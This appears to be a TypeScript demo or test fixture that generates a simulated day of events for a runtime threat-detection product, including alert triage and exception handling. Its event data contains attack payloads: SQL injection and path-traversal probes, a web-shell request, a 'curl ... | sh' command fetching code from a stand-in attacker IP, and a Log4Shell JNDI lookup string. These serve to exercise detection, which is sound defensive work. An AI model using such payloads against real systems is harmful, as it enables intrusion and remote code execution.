// A day of events: quiet hours, a new release that begins to run curl, an intruder in the search, a scanner at every door, a sensor that repeats itself, and a host that fell silent.
import { readFileSync } from "node:fs";
import { dayMs, hourMs, minuteMs, secondMs } from "../../src/kernel/clock.ts";
import type { Instant } from "../../src/kernel/clock.ts";
import type { EventReceipt } from "../../src/app/runtime/receive-events.ts";
import type { DetectionFilter } from "../../src/runtime/detection-store.ts";
import { places } from "./fleet.ts";
import { fleet, quietExecutions, quietRequests } from "./runtime-quiet.ts";
import { auditLines, collected, executions, falcoAlert, spread } from "./runtime-senders.ts";
import type { Request, Running } from "./runtime-senders.ts";
import { sbomFile } from "./sboms.ts";
import type { HappenedEvent, Stage } from "./stage.ts";

/** Longer than a profile learns. */
const quietHours = 30;
const rolloutBefore = 5 * hourMs;
const newMedia = { ...fleet.media, version: "5.2.1" } as const;

/** The intruder of the alerts' storm, three hours ago. */
const intruder = "203.0.113.77";
const stormBefore = 3 * hourMs;

export interface Sent { decoder: string; source: string; body: string; host?: string }

/** Through the same intake as the doors use; what is refused is a mistake in the demo. */
export async function sendEvents({ app }: Pick<Stage, "app">, { decoder, source, body, host }: Sent): Promise<EventReceipt> {
  const receipt = await app.runtime.receive(app.org, { decoder, source, host, settings: {}, isCanary: false, chunks: (async function* () { yield Buffer.from(body); })() });
  if (receipt.rejects[0]) throw new Error(`an event of ${source} was refused: ${receipt.rejects[0].at} ${receipt.rejects[0].rule}`);
  return receipt;
}

/** No filter. */
export const anything: DetectionFilter = { state: undefined, kind: undefined, leastLevel: undefined, ruleId: undefined, workload: undefined, service: undefined, actor: undefined, decoder: undefined, tag: undefined, evidence: undefined, word: undefined, since: undefined, until: undefined };

export function runtimeEvents(now: Instant): HappenedEvent[] {
  const before = (ms: number, happen: HappenedEvent["happen"]): HappenedEvent => ({ at: now - ms, happen });
  return [
    ...Array.from({ length: quietHours }, (_, index) => quietHour(now, now - (quietHours - index) * hourMs)),
    before(dayMs, (stage) => stage.app.steps.watchRuntime()),
    before(rolloutBefore, rollOut), before(rolloutBefore - 12 * minuteMs, beginsToRunCurl),
    ...[7, 12, 21].map((minute) => before(stormBefore - minute * minuteMs, (stage) => intrude(stage, minute))),
    ...[9, 8, 7, 6, 5, 4, 3, 2, 1].flatMap((hours) => [before(hours * hourMs - 11 * minuteMs, sensorRepeats), before(hours * hourMs - 14 * minuteMs, agentAsks)]), before(6.5 * hourMs, except),
    before(2 * hourMs, startSuppliers), before(50 * minuteMs, (stage) => scan(stage, "198.51.100.200")), before(38 * minuteMs, (stage) => stage.app.steps.watchRuntime()), before(30 * minuteMs, judge),
  ];
}

/** An hour as it arrives at its end. The bastion is heard until nine hours ago. */
function quietHour(now: Instant, hour: Instant): HappenedEvent {
  const at = hour + hourMs - secondMs;
  const media = at < now - rolloutBefore ? fleet.media : newMedia;
  return {
    at, happen: async (stage) => {
      await sendEvents(stage, { decoder: "otlp-logs", source: "collector-eu", body: collected(quietRequests(hour)) });
      await sendEvents(stage, { decoder: "tetragon", source: "tetragon-eu", body: executions(quietExecutions(hour, media)) });
      if (at < now - 9 * hourMs) await sendEvents(stage, { decoder: "auditd", source: "bastion-1", host: "bastion-1", body: auditLines(hour + 10 * minuteMs, Math.floor(hour / hourMs) % 100_000, ["/usr/bin/ls", "-l", "/srv"]) });
    },
  };
}

/** The same libraries, another habit. */
async function rollOut({ app }: Stage): Promise<void> {
  const { service, version, place } = newMedia;
  const bytes = readFileSync(sbomFile(service, fleet.media.version));
  await app.recordSbom(app.org, { service, version, owner: "team-media", chunks: (async function* () { yield bytes; })() }, "token:ci");
  await app.recordDeployment(app.org, { service, version, endpoint: place, ...places[place] }, "token:ci");
}

/** What its predecessor never did: it fetches something by a tool, from where it never went. */
async function beginsToRunCurl(stage: Stage): Promise<void> {
  const now = stage.clock.now();
  await sendEvents(stage, { decoder: "tetragon", source: "tetragon-eu", body: executions(spread(now - 4 * minuteMs, 4 * minuteMs, 4).map((at) => ({ of: newMedia, at, user: 1004, binary: "/usr/bin/curl", words: "-sf https://198.51.100.23/codecs.json", parent: "/usr/local/bin/python3" }))) });
}

const probes: readonly Omit<Request, "at" | "from">[] = [
  { path: "/search?q=%27%20UNION%20SELECT%20login,password%20FROM%20users--%20", status: 500, bytes: 2210 },
  { path: "/search?q=1%27%20AND%20SLEEP(5)--%20", status: 500, bytes: 2210 },
  { path: "/search?q=../../../../etc/passwd", status: 404 }, { path: "/.env", status: 404 }, { path: "/.git/config", status: 404 }, { path: "/actuator/env", status: 404 },
];

/** Through the search form to a shell, and a page that was not there before. */
async function intrude(stage: Stage, minute: number): Promise<void> {
  const now = stage.clock.now();
  const requests = (minute === 7 ? probes : [{ method: "POST", path: "/search/uploads/status.jsp?cmd=id", status: 200, bytes: 61 }]).map((one, index) => ({ ...one, at: now - (20 - index) * secondMs, from: intruder, ...(minute === 7 ? { agent: "sqlmap/1.9#stable (https://sqlmap.org)" } : {}) }));
  await sendEvents(stage, { decoder: "otlp-logs", source: "collector-eu", body: collected([{ of: fleet.search, requests }]) });
  if (minute !== 12) return;
  const of = fleet.search;
  await sendEvents(stage, { decoder: "tetragon", source: "tetragon-eu", body: executions([
    { of, at: now - 9 * secondMs, binary: "/bin/sh", words: "-c id", parent: "/opt/java/bin/java" }, { of, at: now - 4 * secondMs, binary: "/bin/sh", words: `-c "curl -s http://${intruder}:8443/a | sh"`, parent: "/opt/java/bin/java" },
  ]) });
}

/** Somebody of the team looks into a container every hour; the sensor says so each time, five times over. */
async function sensorRepeats(stage: Stage): Promise<void> {
  const now = stage.clock.now();
  const body = spread(now - 5 * minuteMs, 5 * minuteMs, 5).map((at) => falcoAlert({
    of: fleet.admin, at, rule: "Terminal shell in container", priority: "Notice", tags: ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
    output: "A shell was spawned in a container with an attached terminal (user=emil shell=bash parent=runc cmdline=bash terminal=34816)",
    fields: { "evt.type": "execve", "proc.name": "bash", "proc.exepath": "/usr/bin/bash", "proc.cmdline": "bash", "proc.pname": "runc", "proc.tty": 34816, "user.name": "emil" },
  })).join("\n");
  await sendEvents(stage, { decoder: "falco", source: "falco-backoffice", body });
}

/** The queue's agent asks its cluster for its neighbours, as it must; the sensor has no way to know that. */
async function agentAsks(stage: Stage): Promise<void> {
  const body = spread(stage.clock.now() - 10 * minuteMs, 10 * minuteMs, 6).map((at) => falcoAlert({
    of: fleet.media, at, rule: "Contact K8S API Server From Container", priority: "Notice", tags: ["maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"],
    output: "Unexpected connection to K8s API Server from container (connection=10.40.3.8:41230->10.96.0.1:443 command=queue-agent --watch)",
    fields: { "evt.type": "connect", "proc.name": "queue-agent", "proc.exepath": "/usr/local/bin/queue-agent", "proc.cmdline": "queue-agent --watch", "fd.name": "10.40.3.8:41230->10.96.0.1:443", "fd.rip": "10.96.0.1", "fd.rport": 443, "user.name": "queue" },
  })).join("\n");
  await sendEvents(stage, { decoder: "falco", source: "falco-batch", body });
}

/** So a person says it, once: the narrowest filter for what was seen, with an owner, a reason and an end. */
async function except({ app, clock }: Stage): Promise<void> {
  const { items } = await app.runtime.detections(app.org, { ...anything, state: "open", ruleId: "sensor:falco:Contact K8S API Server From Container" }, { limit: 10, after: undefined });
  const { text, title, hides } = await app.runtime.exceptionDesk.draft(app.org, { detections: items.map(({ detectionId }) => detectionId) });
  if (hides[0]) throw new Error(`the exception would hide ${hides[0].title}`);
  await app.runtime.exceptionDesk.create(app.org, { title, text, owner: "team-media", reason: "The queue's agent finds its neighbours by the cluster's API; reviewed by emil", expiresAt: clock.now() + 60 * dayMs, force: undefined }, "person:emil");
}

/** A supplier's service, started by hand two hours ago: it still has the library that everybody looked for once. */
export const suppliers: Running = { service: "stockroom-api", version: "2.3.0", place: "partner-edge" };
const suppliersSbom = JSON.stringify({
  bomFormat: "CycloneDX", specVersion: "1.6", version: 1,
  components: ["log4j-core", "log4j-api"].map((name) => ({ type: "library", group: "org.apache.logging.log4j", name, version: "2.14.1", purl: `pkg:maven/org.apache.logging.log4j/${name}@2.14.1?type=jar` })),
});

async function startSuppliers({ app }: Stage): Promise<void> {
  const { service, version, place } = suppliers;
  await app.recordSbom(app.org, { service, version, owner: "team-orders", chunks: (async function* () { yield Buffer.from(suppliersSbom); })() }, "token:ci");
  await app.recordDeployment(app.org, { service, version, endpoint: place, ...places["partner-edge"] }, "person:dora");
}

/** One scanner, every door: the same lookup goes to what has the library, to what has a mended one, and to what has none. */
async function scan(stage: Stage, from: string): Promise<void> {
  await sendEvents(stage, { decoder: "otlp-logs", source: "collector-eu", body: lookups(stage.clock.now() - 30 * secondMs, from, [fleet.catalog, fleet.orders, suppliers]) });
}

export const lookups = (at: Instant, from: string, doors: readonly Running[]): string =>
  collected(doors.map((of, index) => ({ of, requests: [{ at: at + index * secondMs, from, path: `/?x=\${jndi:ldap://${from}:1389/Basic/Command/Base64/aWQ=}`, status: 404 }] })));

/** The shells were a colleague's: said once, with the reason. */
async function judge({ app }: Stage): Promise<void> {
  const { items } = await app.runtime.detections(app.org, { ...anything, state: "open", ruleId: "sensor:falco:Terminal shell in container" }, { limit: 1, after: undefined });
  if (!items[0]) throw new Error("Falco's alerts became no detection");
  await app.runtime.judge(app.org, items[0].detectionId, { verdict: "benign", note: "emil looked for a stuck session; the ticket names him" }, "person:mara");
}
